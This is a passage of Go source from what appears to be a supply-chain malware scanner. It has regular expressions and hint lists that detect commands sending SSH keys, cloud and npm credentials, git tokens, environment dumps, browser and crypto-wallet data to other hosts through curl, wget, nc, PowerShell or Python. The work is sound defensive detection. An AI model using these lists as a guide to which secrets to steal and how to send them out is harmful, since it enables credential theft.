	assign: regexp.MustCompile(`(?m)^[ \t]*([A-Za-z_]\w*)=(?:"([^"$\x60\n]*)"|'([^'\n]*)'|([^\s;&|$\x60'"]*))[ \t]*;?[ \t\r]*$`),
	ref:    regexp.MustCompile(`\$\{?[A-Za-z_]\w*\}?`),
	name:   func(s string) string { return strings.Trim(s, "${}") },
	first:  true,
}

// ExpandPSVars returns a PowerShell script with its variables set to
// quoted constants replaced by their values where later lines use them
// (powershell -EncodedCommand $policy runs what $policy holds).
func ExpandPSVars(script string) string { return psVars.expand(script) }

// ExpandShellVars returns a shell script with the variables set to
// constants (the first value each is given) replaced by their values
// where later lines use them: $DL "$OUT" "$URL" with DL="curl -fsSL -o"
// runs curl.
func ExpandShellVars(script string) string { return shVars.expand(script) }

var shellSendSecretRe = regexp.MustCompile(`(?i)(curl|wget|nc)\b[^\n]*(\.ssh|id_rsa|\.npmrc|\.aws|/etc/passwd|\$\(\s*(env|printenv|set)\b|` + "`(env|printenv)\\b" + `|\$\(cat\s|\$\(whoami\)|\$\(hostname\))` +
	// python -c "...urlopen(..., data=...os.environ...)"
	`|os\.environ[^\n]*(urlopen|requests\.(post|put|get)|http\.client)|(urlopen|requests\.(post|put))[^\n]*os\.environ` +
	// python reading a key or token file next to a request that sends it
	`|(id_rsa|id_ed25519|\.ssh[/\\]|\.npmrc|\.aws[/\\]credentials)[^\n]{0,600}(urlopen|requests\.(post|put)|http\.client\.)|(urlopen|requests\.(post|put))\([^\n]{0,600}(id_rsa|id_ed25519|\.npmrc|\.aws[/\\]credentials)` +
	`|(cat|env|printenv)\b[^\n]*(\.ssh|id_rsa|\.npmrc|\.aws|/etc/passwd)?[^\n]*\|\s*(curl|nc|wget)|` +
	// an archive of key and token directories piped to an upload
	`(tar|zip)\b[^\n|]*(\.ssh|\.npmrc|\.aws|\.gnupg|\.kube)[^\n]*\|\s*(curl|nc|wget)\b|=\$\(cat [^)]*(\.ssh|id_rsa|\.npmrc|\.aws|passwd)[^)]*\)[^\n]*(curl|wget)` +
	// a git or GitHub credential gathered, then posted by curl or wget
	// (a script joined into one line: report=$(… git credential fill …
	// gh auth token …); curl -d "$report" …)
	`|(\.git-credentials|git credential fill|gh auth token|\.config/gh/hosts\.yml)[^\n]{0,1000}\b(curl|wget)\b[^\n]*\s(-d|--data|--data-binary|--data-raw|-F|--form|-T|--upload-file|--post-data|--post-file)\b`)

// ShellSendsSecrets returns a fragment of a command that sends local
// secrets or host identity off-host.
func ShellSendsSecrets(cmd string) string {
	if len(cmd) > 8192 {
		cmd = cmd[:8192]
	}
	if !sendSet.In(cmd) {
		return ""
	}
	return shellSendSecretRe.FindString(cmd)
}

// ShellShebang matches a "#!" line naming a shell (sh, bash, dash, zsh,
// directly or through env).
var ShellShebang = regexp.MustCompile(`^#!\s*\S*/(env\s+)?(ba|da|z)?sh\b`)

// JoinScript reads a shell script as one command line: its lines joined
// with " ; ", its "#!" line left out (the interpreter line, "#!/usr/bin/env
// bash", is no environment dump).
func JoinScript(script string) string {
	if strings.HasPrefix(script, "#!") {
		_, script, _ = strings.Cut(script, "\n")
	}
	return strings.ReplaceAll(script, "\n", " ; ")
}

// CoreModule reports one of Node's built-in modules (require("node:x")
// is folded to x).
func CoreModule(name string) bool { return coreModules[name] }

var coreModules = map[string]bool{"assert": true, "async_hooks": true, "buffer": true, "child_process": true, "cluster": true, "console": true,
	"constants": true, "crypto": true, "dgram": true, "diagnostics_channel": true, "dns": true, "domain": true, "events": true, "fs": true,
	"fs/promises": true, "http": true, "http2": true, "https": true, "inspector": true, "module": true, "net": true, "os": true, "path": true,
	"perf_hooks": true, "process": true, "punycode": true, "querystring": true, "readline": true, "repl": true, "stream": true,
	"string_decoder": true, "timers": true, "tls": true, "tty": true, "url": true, "util": true, "v8": true, "vm": true, "worker_threads": true, "zlib": true}

// Live reports roles whose findings count fully.
func Live(r analyze.Role) bool { return r.Live() }

var sensitiveHints = []string{".ssh", ".aws", "gcloud", ".azure", ".kube", ".docker", "credential", ".netrc", "/etc/", "login data", "local storage", "cookies",
	"user data", "wallet", "electrum", "exodus", "atomic", "nkbihf", "bfnaelm", "ejbalba", "keychain", "history", "discord", "firefox", "key4", "logins.json",
	".solana", ".ethereum", ".npmrc", ".yarnrc", "/proc/", "runner.worker", "issecret", "security-credentials", "service-accounts", "serviceaccount", "hosts.yml",
	".terraform.d", "tdata", "1password", "bitwarden", "slack", ".codex", "oauth_creds", "github-copilot"}

var shellHints = []string{"curl", "wget", "fetch", "powershell", "iwr", "certutil", "bitsadmin", "mshta", "rundll32", "/dev/tcp", "nc ", "base64", "--token", "python", "regsvr32", "msiexec",
	"urlopen", "requests.get", "download", "invoke-webrequest", "start-bitstransfer", "node -e", "node -p", "node --eval", "node --print"}

var (
	sensitiveSet = NewHints(sensitiveHints...)
	shellSet     = NewHints(shellHints...)
	sendSet      = NewHints("curl", "wget", "nc ", "os.environ", "urlopen", "requests.post", "requests.put", "http.client")
	exfilSet     = NewHints(exfilSuffixes...)
	ipLookupSet  = NewHints(ipLookup...)
)

// ModuleSize is the size past which a file is usually several modules
// concatenated (a library's dist file): co-occurrence there says little
// unless the pieces sit close together (Near).
const ModuleSize = 64 << 10

// Near reports whether any of ps is close to p: within 2,000 bytes of
// code. Steps of one attack sit together; the same calls spread over a
// bundle are usually unrelated.
func Near(p jsast.Pos, ps []jsast.Pos) bool {
	for _, q := range ps {
		if absInt(p.Off-q.Off) <= 2000 {
			return true
		}
	}
	return false
}

func absInt(n int) int {
	if n < 0 {
		return -n
	}
	return n
}

// RunsNode reports a spawn that starts Node on a script: fork(), or
// spawn(process.execPath, [...]).
func RunsNode(c jsast.Call, cmd string) bool {
	if Last(c.Callee) == "fork" || cmd == "node" {
		return true
	}
	return len(c.Args) > 0 && !c.Args[0].Known && slices.Equal(c.Args[0].Names, []string{"process", "execPath"})
}

// WrittenScript returns the variable naming the script a Node process
// of c runs (fork(file), spawn(process.execPath, [file])) when the file
// also writes to it (fs.writeFileSync(file, code)); "" otherwise.
// pathParts are names a path built at run time mentions that name no
// script: the path module, its functions, the directories it starts from.
var pathParts = map[string]bool{"path": true, "default": true, "join": true, "resolve": true, "__dirname": true, "__filename": true, "process": true, "cwd": true}

func WrittenScript(f *jsast.Facts, c jsast.Call) string {
	var script []string
	switch {
	case Last(c.Callee) == "fork" && len(c.Args) > 0:
		// fork(file): a variable holding the path, not a path built
		// from the package's directory (path.resolve(__dirname, "x.js"))
		if script = c.Args[0].Names; len(script) != 1 {
			return ""
		}
	case len(c.Args) > 1:
		script = c.Args[1].Names
	}
	if len(script) == 0 || pathParts[script[0]] {
		return ""
	}
	// the script is the first name (fork(file), [file, "--har", har]):
	// the process's other arguments may be files it wrote too
	for _, w := range f.Calls {
		if (Root(w.Callee) == "fs" || Root(w.Callee) == "fs-extra") && strings.HasPrefix(Last(w.Callee), "writeFile") && len(w.Args) > 1 &&
			slices.Contains(w.Args[0].Names, script[0]) {
			return script[0]
		}
	}
	return ""
}

// LocalModules returns the package's own modules f requires or imports
// by a relative path (at most 16).
func LocalModules(t *analyze.Target, f File) []string {
	var out []string
	for _, im := range f.Facts.Imports {
		if len(out) >= 16 {
			break
		}
		if p := t.Resolve(f.Name, im.Module); p != "" && p != f.Name && analyze.IsCode(p) && !slices.Contains(out, p) {
			out = append(out, p)
		}
	}
	return out
}

// SmallModules returns the package's small modules (SmallModule) that f
// loads (LocalModules), with their facts.
func SmallModules(t *analyze.Target, f File) []File {
	var out []File
	for _, name := range LocalModules(t, f) {
		if g, err := t.Facts(name); err == nil && g != nil && SmallModule(g) {
			out = append(out, File{Name: name, Facts: g})
		}
	}
	return out
}

// LoadedModule returns the first of the package's modules f loads
// (LocalModules) for which ok holds, with its facts; "" and nil if none.
func LoadedModule(t *analyze.Target, f File, ok func(*jsast.Facts) bool) (string, *jsast.Facts) {
	for _, name := range LocalModules(t, f) {
		if g, err := t.Facts(name); err == nil && g != nil && ok(g) {
			return name, g
		}
	}
	return "", nil
}

// Loader returns a code file of the package for which ok holds that
// loads the file name (requires or imports it); "" if none.
func Loader(ctx context.Context, t *analyze.Target, name string, ok func(File) bool) string {
	if ctx.Err() != nil {
		return ""
	}
	for _, g := range t.Importers(name) {
		if g.Name != name && ok(g) {
			return g.Name
		}
	}
	return ""
}

// SmallModule reports a file that is a module of its own: not a bundle,
// under ModuleSize.
func SmallModule(f *jsast.Facts) bool { return !f.Bundle() && f.Size < ModuleSize }
